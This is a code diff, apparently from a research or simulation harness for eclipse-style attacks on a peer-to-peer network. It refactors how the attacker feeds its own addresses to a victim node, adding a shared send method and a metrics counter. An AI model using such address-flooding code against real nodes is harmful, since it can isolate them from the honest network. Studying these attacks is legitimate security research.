@@ -118,7 +118,7 @@ class VictimPeer(AttackPeer):
         self.bootstrap.victim_ready(self)
 
     def on_getaddr(self, msg: Any) -> None:
-        self.send(msg_addr(self.bootstrap.attacker_addrs()[:MAX_ADDR_TO_SEND]))
+        self.bootstrap.send_addresses(self)
         self.bootstrap.getaddr_answered += 1
 
     def on_inv(self, msg: Any) -> None:
@@ -178,8 +178,13 @@ class BootstrapAttacker(Attacker):
         now = int(time.time())
         return [NetAddr(ip, port, SERVICES, now) for ip, port in map(parse_endpoint, own)]
 
+    def send_addresses(self, peer: VictimPeer) -> None:
+        addrs = self.attacker_addrs()[:MAX_ADDR_TO_SEND]
+        peer.send(msg_addr(addrs))
+        self.metrics.addresses_sent(len(addrs))  # the same counter as eclipse's floods
+
     def push(self, peer: VictimPeer) -> None:
-        peer.send(msg_addr(self.attacker_addrs()[:MAX_ADDR_TO_SEND]))
+        self.send_addresses(peer)
         self.addr_pushes += 1
 
     # --- the attack --------------------------------------------------------------------------------
